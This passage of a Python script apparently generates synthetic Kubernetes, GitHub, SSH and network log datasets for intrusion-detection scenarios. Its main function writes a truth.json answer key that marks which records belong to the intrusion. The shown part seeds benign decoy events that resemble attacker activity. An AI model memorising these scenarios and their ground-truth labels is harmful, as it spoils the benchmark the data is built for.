        w.good(w.kube(n * 7 * MINUTE + 9_000, "system:serviceaccount:argocd:controller", "get", "deployments", "ci-01", "prod", repo))
    w.good(w.github(3 * HOUR, "b.mori", "public_key.create", "198.51.100.30", "docs", title="laptop", read_only="false"),
           w.github(8 * HOUR, "c.abe", "repo.register_self_hosted_runner", "198.51.100.30", "mobile"),
           w.kube(6 * HOUR, "d.kato@cedar.example", "create", "pods", "dev-04", "prod", "svc-03", 101, sub="exec"),
           w.kube(7 * HOUR, "e.ono@cedar.example", "create", "pods", "dev-05", "monitoring", "node-agent", 201, body={
               "kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-agent"},
               "spec": {"containers": [{"name": "x", "image": "agent", "securityContext": {"privileged": True}}]}}))
    for n in range(18):
        w.good(w.github(9 * HOUR + n * 8 * SECOND, "f.hara", "git.clone", "192.0.2.77", f"svc-{n:02d}", transport_protocol_name="http"))
    w.good(w.ssh_ok(4 * HOUR, "node-01", "b.mori", "dev-02"), w.exec(4 * HOUR + MINUTE, "node-01", "b.mori", 1_000, ["sudo", "journalctl", "-u", "kubelet"]))
    for n, words in enumerate([["id"], ["uname", "-a"], ["ss", "-tlnp"], ["ip", "a"], ["last"]]):
        w.good(w.exec(4 * HOUR + 2 * MINUTE + n * 9 * SECOND, "node-02", "b.mori", 1_000, words))
    w.good(w.conn(30 * MINUTE, "bkp-01", "198.51.100.9", 443, 5_500_000_000, 2_000_000, "ssl", 1_500.0))
    w.updates(0, "mon-01", "198.51.100.90", 4 * MINUTE, 140)
    return w


SCENARIOS = [phishing, webshell, cloudkeys, ransomware, insider, pipeline]


def main():
    for scenario in SCENARIOS:
        demo.RECORD_IDS.clear()
        name, world = scenario.__name__, scenario()
        entries = world.entries()
        folder = os.path.join(HERE, name)
        os.makedirs(folder, exist_ok=True)
        truth = {"story": scenario.__doc__, "records": len(entries),
                 "root": [n for n, one in enumerate(entries) if one.get("_root")],
                 "intrusion": [n for n, one in enumerate(entries) if one["_evil"]]}
        with open(os.path.join(folder, "records.ndjson.gz"), "wb") as raw:
            with gzip.GzipFile(filename="", mode="wb", compresslevel=9, fileobj=raw, mtime=0) as file:
                for one in entries:
                    plain = {key: value for key, value in one.items() if not key.startswith("_")}
                    file.write((json.dumps(plain, ensure_ascii=True, separators=(",", ":")) + "\n").encode())
        with open(os.path.join(folder, "assets.csv"), "w", encoding="utf-8") as file:
            file.write(world.assets())
        with open(os.path.join(folder, "truth.json"), "w", encoding="utf-8") as file:
            json.dump(truth, file, separators=(",", ":"))
            file.write("\n")


if __name__ == "__main__":
    main()
